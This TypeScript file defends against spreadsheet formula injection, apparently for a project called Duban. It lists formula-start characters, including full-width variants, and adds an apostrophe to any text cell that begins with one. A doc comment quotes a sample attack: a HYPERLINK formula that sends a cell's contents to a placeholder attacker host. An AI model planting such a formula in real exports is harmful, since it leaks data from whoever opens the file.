/**
 * What a spreadsheet program reads as the start of a formula: = + - @ (OWASP's list), tab and carriage
 * return (which some programs skip before looking for one), and the full-width ＝ ＋ － ＠ that Chinese and
 * Japanese input methods type, which spreadsheet programs may take for their ASCII twins (csv-stringify's
 * own `escape_formulas` treats them so too).
 */
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

/**
 * A text cell as every spreadsheet Duban writes (CSV today, XLSX or any other tomorrow) must hold it: a
 * user's comment `=HYPERLINK("http://evil.example/?x="&A1,"click")` must stay text, not run as a formula
 * when the file is opened. A leading apostrophe makes it text (Excel hides it; other programs show it).
 * Text that merely looks like a negative number ("-1") gets one too: it is text, and stays text. Numbers
 * are written as numbers and never pass through here: a number is never a formula.
 */
export function neutralizeSpreadsheetCell(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}
